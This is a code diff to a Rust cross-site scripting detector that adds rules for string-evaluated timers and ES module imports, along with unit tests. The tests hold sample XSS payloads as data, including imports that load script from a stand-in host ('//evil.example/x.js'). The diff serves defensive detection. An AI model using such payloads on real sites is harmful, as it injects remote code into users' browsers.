@@ -13,8 +13,8 @@
 //! carry code samples, and those must not block; a value that is nothing *but* a dialog call
 //! (`confirm(1)`) is a probe.
 
-use super::gate::{gated, in_sorted, lit, skip_space, skip_space_comments, skip_space_comments_back, word_before};
-use super::{Check, Family, Hit, Rules, Subject, Trigger};
+use super::gate::{gated, in_sorted, lit, skip_space, skip_space_comments, skip_space_comments_back, starts_word, word_before};
+use super::{is_json_text, stronger, Check, Family, Hit, Rules, Subject, Trigger};
 use crate::finding::Severity::{Critical, High, Medium};
 
 /// Gate for `<`: a tag, end tag, comment or declaration starts (`a < b` and `<3` do not).
@@ -38,7 +38,7 @@ fn data_url(b: &[u8], _s: usize, e: usize) -> bool {
 /// JavaScript functions whose call is the point of a payload. Sorted.
 const JS_CALLS: &[&str] = &[
     "alert", "atob", "btoa", "confirm", "eval", "execscript", "expression", "fetch", "import", "open", "print",
-    "prompt", "setinterval", "settimeout", "url", "write", "writeln",
+    "prompt", "setimmediate", "setinterval", "settimeout", "url", "write", "writeln",
 ];
 
 /// Gate for `(` and a backquote: the word before is a JavaScript sink (`alert(`, ``confirm`1` ``).
@@ -70,8 +70,15 @@ fn then_colon(b: &[u8], _s: usize, e: usize) -> bool {
 }
 
 
+/// Gate for `import`: an ES module import clause (`import {a} from`, `import * as m from`).
+fn import_clause(b: &[u8], s: usize, e: usize) -> bool {
+    starts_word(b, s, e) && matches!(b.get(skip_space(b, e)), Some(b'{' | b'*'))
+}
+
 pub(crate) struct Xss {
     rules: Rules,
+    /// Script that is an injection outside a JSON text field, where code samples do not travel.
+    strict_rules: Rules,
 }
 
 /// Event handler names are `on` + a DOM event; a short list of prefixes keeps `one=`/`only=` out.
@@ -117,7 +124,14 @@ impl Xss {
             (quote_handler_weak.as_str(), Medium, 0.7, "event handler name after a quote"),
             (r"\b(?:alert|prompt|confirm|eval|btoa|atob)\s*\(", Medium, 0.6, "script call"),
         ];
-        Ok(Xss { rules: Rules::new(Family::Xss, &table)? })
+        // A string-evaluating timer given code, and ES module imports: what a page's script
+        // does, never what a URL, header, form or XML value holds; in a JSON text field they are
+        // a code sample.
+        let strict = [
+            (r#"\b(?:settimeout|setinterval|setimmediate|execscript)\s*\(\s*(?:["'`]|[a-z_$][\w$.]*\s*(?:\(|,\s*\d))"#, High, 0.7, "script timer given code"),
+            (r#"\bimport\s*(?:\{[^}]*\}|\*\s*as\s+[a-z_$][\w$]*)\s*from\s*["'`]|\bimport\s*\(\s*["'`]"#, High, 0.7, "JavaScript module import"),
+        ];
+        Ok(Xss { rules: Rules::new(Family::Xss, &table)?, strict_rules: Rules::new(Family::Xss, &strict)? })
     }
 }
 
@@ -198,18 +212,50 @@ impl Check for Xss {
             lit("![]"),
             lit("+[]"),
             lit("[]["),
+            gated("import", import_clause),
         ];
         T
     }
 
     fn check(&self, s: &Subject<'_>) -> Option<Hit> {
-        self.rules.best_either(s.text, script_fold(s.text).as_deref())
+        let hit = self.rules.best_either(s.text, script_fold(s.text).as_deref());
+        if is_json_text(s) {
+            return hit;
+        }
+        stronger(hit, self.strict_rules.best(s.text))
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::super::testing::*;
+
+    #[test]
+    fn script_timers_and_module_imports_outside_json_text() {
+        use crate::fields::Part;
+        for v in [
+            "setInterval(payload, 10)",
+            "setTimeout('document.location=1', 0)",
+            "setTimeout(poll(), 100)",
+            "import {readFile} from 'fs'",
+            "import * as m from \"//evil.example/m.js\"",
+            "import('//evil.example/x.js')",
+        ] {
+            assert!(flags("attack.xss", v), "{v}");
+            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
+            assert!(!flags_in_json("attack.xss", v), "{v} as a code sample in a JSON text field");
+        }
+        for v in [
+            "set the interval (in seconds)",
+            "setTimeout is a function",
+            "import the data from the spreadsheet",
+            "important {notes} from 'Bob'",
+            "reimport {a} from 'b'",
+            "import duties from 'France'",
+        ] {
+            assert!(!flags("attack.xss", v), "{v}");
+        }
+    }
 
     #[test]
     fn catches_xss() {
